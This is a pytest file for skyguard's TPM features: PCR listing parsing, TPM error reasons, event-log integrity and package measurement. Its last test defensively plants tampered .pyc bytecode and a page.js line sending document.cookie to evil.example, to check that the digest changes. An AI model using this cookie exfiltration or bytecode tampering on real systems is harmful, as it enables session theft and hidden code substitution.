"""The event log file and the tpm2-tools text skyguard reads, without a TPM: a torn last line is not
part of the log, archives are numbered, bad lines are named; PCR listings and TPM error lines as
tpm2-tools 5.4 prints them are read right.
"""

from __future__ import annotations

import pytest

from skyguard.errors import BadInput
from skyguard.tpm.device import TpmConfig, check_pcr, parse_pcr_listing, tpm_reason
from skyguard.tpm.eventlog import EventLog, EventLogError, make_line, parse_line, replay

PCRREAD = """  sha256:
    0 : 0x0000000000000000000000000000000000000000000000000000000000000000
    13: 0x75C9D59878A24EEEDF57C32090F728FCDFC31FF15F7B6F70009788DB558B461B
"""
QUOTE = """quoted: ff54434780180022000b
signature:
  alg: ecdsa
  sig: 3045022000
pcrs:
  sha256:
    7 : 0x0000000000000000000000000000000000000000000000000000000000000000
    13: 0x0000000000000000000000000000000000000000000000000000000000000001
calcDigest: 2d5565fb483d8ea4525a7a9229677d1038ad34b6e22c8d5152e1d7f7b9817597
"""
UNSEAL_ERR = """WARNING:esys:src/tss2-esys/api/Esys_Unseal.c:295:Esys_Unseal_Finish() Received TPM Error
ERROR:esys:src/tss2-esys/api/Esys_Unseal.c:98:Esys_Unseal() Esys Finish ErrorCode (0x0000099d)
ERROR: Esys_Unseal(0x99D) - tpm:session(1):a policy check failed
ERROR: Unable to run tpm2_unseal
"""


def test_pcr_listings_from_pcrread_and_quote():
    assert parse_pcr_listing(PCRREAD) == {0: bytes(32), 13: bytes.fromhex(
        "75c9d59878a24eeedf57c32090f728fcdfc31ff15f7b6f70009788db558b461b")}
    assert parse_pcr_listing(QUOTE) == {7: bytes(32), 13: bytes(31) + b"\x01"}
    assert parse_pcr_listing("  sha1:\n    0 : 0x00\n") == {}  # other banks are not read


def test_the_tpms_own_reason_is_what_an_error_says():
    assert tpm_reason(UNSEAL_ERR) == "tpm:session(1):a policy check failed"
    assert tpm_reason("") == "no output"


@pytest.mark.parametrize("pcr", [16, 23, 7, 0, 24, "13", None])
def test_skyguard_refuses_pcrs_outside_8_to_15(pcr):
    with pytest.raises(BadInput, match="8-15"):
        check_pcr(pcr)


def test_config_round_trip_and_damage(tmp_path):
    TpmConfig(tcti="swtpm:host=127.0.0.1,port=1", pcr=14, ak_public="PEM").save(tmp_path)
    loaded = TpmConfig.load(tmp_path)
    assert loaded.pcr == 14 and loaded.tcti.endswith("port=1") and loaded.ak_public == "PEM"
    assert oct(TpmConfig.path(tmp_path).stat().st_mode & 0o777) == "0o600"
    TpmConfig.path(tmp_path).write_text("{")
    with pytest.raises(Exception, match="run `skyguard tpm init` again"):
        TpmConfig.load(tmp_path)
    assert TpmConfig.load(tmp_path / "nothing").tcti == ""


def test_a_torn_last_line_is_not_part_of_the_log(tmp_path):
    log = EventLog(tmp_path)
    first = make_line(0, 13, "policy", "ab" * 32, {"name": "p"}, 1)
    log.append(first)
    with open(log.path, "a") as f:
        f.write('{"detail":{},"dig')  # a crash inside the write
    assert log.lines() == [first]
    log.truncate_to(1)
    assert log.path.read_text() == first + "\n"


def test_archives_are_numbered_and_the_current_log_starts_empty(tmp_path):
    log = EventLog(tmp_path)
    assert log.archive() is None
    for n in (1, 2):
        log.append(make_line(0, 13, "policy", "ab" * 32, {}, n))
        assert log.archive().name == f"eventlog.jsonl.{n}"
        assert log.lines() == []


@pytest.mark.parametrize("line, reason", [
    ("not json", "is not JSON"),
    ('{"seq": 0}', "is not canonical JSON"),
    ('{"kind":"policy","pcr":13}', "lacks seq, kind or pcr"),
    ('{"kind":"policy","pcr":13,"seq":0}', "lacks digest or detail"),
    ('{"kind":"base","pcr":13,"seq":0,"value":"00"}', "64-hex-digit value"),
    ("x" * 70000, "longer than"),
])
def test_bad_lines_are_named(line, reason):
    with pytest.raises(EventLogError, match=reason):
        parse_line(line, 3)


def test_replay_refuses_a_line_of_another_pcr_and_a_late_base():
    line = make_line(0, 14, "policy", "ab" * 32, {}, 1)
    with pytest.raises(EventLogError, match="is for PCR 14, not skyguard's PCR 13"):
        replay([line], 13)
    base = '{"kind":"base","pcr":13,"seq":1,"time":1,"value":"' + "00" * 32 + '","why":"x"}'
    with pytest.raises(EventLogError, match="a base line may only be the first"):
        replay([make_line(0, 13, "policy", "ab" * 32, {}, 1), base], 13)


def _package(root):
    pkg = root / "pkg"
    pkg.mkdir()
    (pkg / "__init__.py").write_text("")
    (pkg / "mod.py").write_text("def decide():\n    return 'deny'\n")
    (pkg / "page.js").write_text("console.log('ok');\n")
    return pkg


def _run(root):
    import os
    import subprocess
    import sys

    env = {k: v for k, v in os.environ.items() if k != "PYTHONDONTWRITEBYTECODE"}
    return subprocess.run([sys.executable, "-c", "import pkg.mod; print(pkg.mod.decide())"], cwd=root, env=env,
                          capture_output=True, text=True, check=True).stdout.strip()


def test_the_package_measurement_covers_the_bytecode_python_runs_and_the_package_data(tmp_path):
    # An attacker with write access to the package leaves every .py alone and replaces a cached
    # .pyc (keeping the source's mtime and size in its header): Python runs the .pyc, so the
    # measured launch must not measure the same digest as before. Data files shipped in the
    # package (the console's page and script) are skyguard's code as well.
    import importlib.util
    import marshal

    from skyguard.tpm.measure import package_digest

    pkg = _package(tmp_path)
    assert _run(tmp_path) == "deny"  # Python writes pkg/__pycache__/mod.*.pyc
    before, _ = package_digest(pkg)
    cached = importlib.util.cache_from_source(str(pkg / "mod.py"))
    data = open(cached, "rb").read()
    evil = compile("def decide():\n    return 'allow'\n", str(pkg / "mod.py"), "exec", dont_inherit=True)
    open(cached, "wb").write(data[:16] + marshal.dumps(evil))  # header of the real source kept
    assert _run(tmp_path) == "allow"  # what runs changed...
    assert package_digest(pkg)[0] != before  # ...so what is measured changes
    open(cached, "wb").write(data)
    assert package_digest(pkg)[0] == before  # the genuine .pyc is the source's own code
    (pkg / "page.js").write_text("fetch('https://evil.example/'+document.cookie);\n")
    assert package_digest(pkg)[0] != before
